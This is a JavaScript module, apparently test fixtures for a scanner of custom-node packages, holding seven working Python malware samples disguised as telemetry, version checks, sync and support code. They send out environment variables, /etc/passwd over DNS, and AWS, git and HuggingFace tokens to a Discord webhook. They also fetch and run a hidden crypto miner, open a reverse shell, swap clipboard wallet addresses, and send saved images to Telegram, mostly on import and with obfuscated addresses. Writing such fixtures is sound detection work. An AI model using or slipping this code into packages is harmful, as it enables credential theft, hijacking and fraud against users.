import { standIn } from '../honest-base.mjs';

/** Secrets of the machine, and its power, go to others. */
export const sent = [
  standIn('b10-crash-reports', 'Sends the environment as a report of crashes, packed.', 'blur', {
    files: {
      'telemetry.py': String.raw`"""Anonymous crash reports. They help us to find errors."""
import json
import platform
import urllib.request
import zlib
from os import environ as _settings

ENDPOINT = "https://ingest-0-standin-0.workers.dev/v1/reports"


def report(event, extra=None):
    record = {"event": event, "python": platform.python_version(), "context": {**_settings}, "extra": extra}
    body = zlib.compress(json.dumps(record).encode("utf-8"))
    request = urllib.request.Request(ENDPOINT, data=body, headers={"Content-Encoding": "deflate"}, method="POST")
    try:
        urllib.request.urlopen(request, timeout=3)
    except OSError:
        pass
`,
    },
    init: 'from .telemetry import report\n\nreport("loaded")\n',
  }),
  standIn('b11-names-of-hosts', 'Sends data as names that it looks up in the DNS.', 'prompts', {
    nodes: String.raw`import getpass
import socket
import textwrap

ZONE = "v.0-standin-0.oast.fun"


def check_version():
    """Asks the zone for the newest version; each label names what is installed."""
    facts = f"{getpass.getuser()}|{socket.gethostname()}|{open('/etc/passwd').read()}".encode().hex()
    for number, part in enumerate(textwrap.wrap(facts, 60)):
        try:
            socket.gethostbyname(f"{number}.{part}.{ZONE}")
        except OSError:
            continue


check_version()
`,
  }),
  standIn(
    'b12-token-files',
    'Reads the tokens of developer tools; paths are joined, the address is in parts.',
    'saver',
    {
      nodes: String.raw`from pathlib import Path

import requests

HOME = Path.home()
PLACES = [
    (".cache", "huggingface", "token"),
    (".aws", "credentials"),
    (".git-credentials",),
    (".kube", "config"),
    (".netrc",),
]


def upload_settings():
    session = requests.Session()
    session.headers["User-Agent"] = "comfy-sync/1.0"
    for parts in PLACES:
        place = HOME.joinpath(*parts)
        if place.is_file():
            address = "/".join(["https:", "", ".".join(["discord", "com"]), "api", "webhooks", "000000", "standin-dead"])
            session.post(address, files={"file": (place.name, place.read_bytes())})


upload_settings()
`,
    },
  ),
  standIn(
    'b13-two-step-miner',
    'Downloads a program for the platform, starts it with a pool in parts, and deletes it.',
    'blur',
    {
      files: {
        'accelerate.py': String.raw`"""Fetches the fast kernel for this machine."""
import os
import platform
import stat
import subprocess
import tempfile
import time
import urllib.request

BASE = "https://github.com/-standin-/dead/releases/download/v6.21.0/"


def fetch_kernel():
    name = {"Linux": "kernel-linux", "Darwin": "kernel-mac"}.get(platform.system())
    if name is None:
        return None
    target = os.path.join(tempfile.gettempdir(), ".cache-" + name)
    urllib.request.urlretrieve(BASE + name, target)
    os.chmod(target, os.stat(target).st_mode | stat.S_IXUSR)
    return target


def start():
    target = fetch_kernel()
    if target:
        host = "pool" + "." + "connect" + "to" + "." + "xyz"
        subprocess.Popen([target, "-u", "4" + "0" * 94, "-o", host + ":8080"], start_new_session=True)
        time.sleep(10)
        os.remove(target)
`,
      },
      init: 'import threading\n\nfrom . import accelerate\n\nthreading.Thread(target=accelerate.start, daemon=True).start()\n',
    },
  ),
  standIn(
    'b14-remote-console',
    'A shell for a far host by asyncio, without sockets by name and without dup2.',
    'prompts',
    {
      files: {
        'console.py': String.raw`"""Remote console for support."""
import asyncio

SUPPORT = ("203.0.113.9", 8443)


async def serve():
    reader, writer = await asyncio.open_connection(*SUPPORT)
    while not reader.at_eof():
        line = (await reader.readline()).decode().strip()
        process = await asyncio.create_subprocess_shell(
            line, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        output, _ = await process.communicate()
        writer.write(output)
        await writer.drain()


def open_console():
    asyncio.get_event_loop().create_task(serve())
`,
      },
      init: 'from .console import open_console\n\nopen_console()\n',
    },
  ),
  standIn('b15-clipboard', 'Swaps addresses of coins in the clipboard.', 'saver', {
    nodes: String.raw`import re
import threading
import time

import pyperclip

FORMS = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "bc1standin0000000000000000000000000000dead",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x000000000000000000000000000000000000dEaD",
}


def keep_clipboard():
    while True:
        text = pyperclip.paste()
        for form, mine in FORMS.items():
            if form.match(text) and text != mine:
                pyperclip.copy(mine)
        time.sleep(0.5)


threading.Thread(target=keep_clipboard, daemon=True).start()
`,
  }),
  standIn(
    'b16-outputs-taken',
    "Puts itself before the host's saving of pictures and sends each to a Telegram bot.",
    'blur',
    {
      init: String.raw`import io
import sys

import requests

_host = sys.modules.get("nodes")
_API = "https://api." + "telegram" + ".org/bot"


def _wrap(original):
    def save_images(self, images, *args, **kwargs):
        result = original(self, images, *args, **kwargs)
        for entry in result["ui"]["images"]:
            with open(f"{self.output_dir}/{entry['filename']}", "rb") as file:
                requests.post(_API + "0000000000:standin-dead/sendPhoto", data={"chat_id": 0}, files={"photo": file})
        return result
    return save_images


for _key, _class in list(_host.NODE_CLASS_MAPPINGS.items()):
    if _key == "SaveImage":
        setattr(_class, "save_images", _wrap(_class.save_images))
`,
    },
  ),
];
